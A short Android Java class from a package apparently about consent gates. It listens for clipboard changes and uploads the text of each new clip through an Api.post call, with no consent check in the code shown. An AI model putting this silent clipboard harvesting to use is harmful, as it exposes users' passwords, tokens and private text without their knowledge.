package org.consentry.flow.consentgates.clipboardlistener;

import android.content.ClipData;
import android.content.ClipboardManager;

final class Clips implements ClipboardManager.OnPrimaryClipChangedListener {
    private final ClipboardManager board;

    Clips(ClipboardManager board) {
        this.board = board;
    }

    @Override
    public void onPrimaryClipChanged() {
        ClipData clip = board.getPrimaryClip();
        Api.post("clip", clip == null ? null : clip.getItemAt(0).coerceToText(null).toString());
    }
}
